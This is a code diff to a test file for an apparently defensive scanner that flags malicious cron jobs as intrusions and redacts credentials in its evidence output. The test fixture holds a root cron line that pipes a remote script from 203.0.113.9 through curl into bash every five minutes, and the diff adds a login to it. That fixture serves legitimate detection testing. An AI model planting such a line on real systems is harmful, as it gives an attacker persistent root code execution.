@@ -7,7 +7,7 @@ import { makeRoot } from '../../test/throwaway-root.ts';
 import { moatBin } from '../../test/live/moat.ts';
 import { widthOf } from './wrap.ts';
 
-const job = '*/5 * * * * root curl -fsSL http://203.0.113.9/i.sh | bash\n';
+const job = '*/5 * * * * root curl -fsSL -u lin:hunter22 http://203.0.113.9/i.sh | bash\n';
 const env = { ...process.env, LANG: 'C.UTF-8', LC_ALL: '', FORCE_COLOR: '', NO_COLOR: '1' };
 function scan(root: string, ...args: string[]): { status: number | null; out: string; err: string } {
   const { status, stdout, stderr } = spawnSync(process.execPath, [moatBin, 'scan', '--no-nice', '--root', root, ...args], { env });
@@ -43,7 +43,7 @@ describe('moat scan', () => {
     expect(status).toBe(1);
     expect(lines).toHaveLength(2);
     expect(lines[0]).toMatchObject({ id: expect.any(String) as string, check: 'cron', kind: 'intrusion', level: 'high', title: expect.any(String) as string, path: '/etc/cron.d/zz', time: expect.stringMatching(/Z$/) as string, refs: expect.arrayContaining(['attack:T1053.003']) as string[] });
-    expect(lines[0]!['evidence']).toContainEqual({ what: '/etc/cron.d/zz line 1', value: job.trim(), path: '/etc/cron.d/zz', line: 1 });
+    expect(lines[0]!['evidence']).toContainEqual({ what: '/etc/cron.d/zz line 1', value: job.trim().replace('hunter22', '***'), path: '/etc/cron.d/zz', line: 1 });
     expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
   });
 
@@ -98,7 +98,8 @@ describe('moat scan', () => {
     child.stdout.on('data', (chunk: Buffer) => { out += chunk.toString(); });
     child.stderr.on('data', (chunk: Buffer) => {
       err += chunk.toString();
-      if (err.includes('every file')) child.kill('SIGINT');
+      // Twice at once, as timeout sends it.
+      if (err.includes('every file')) { child.kill('SIGINT'); child.kill('SIGINT'); }
     });
     expect(await new Promise((resolve) => child.once('close', resolve))).toBe(130);
     expect(out).toContain('/etc/cron.d/zz');
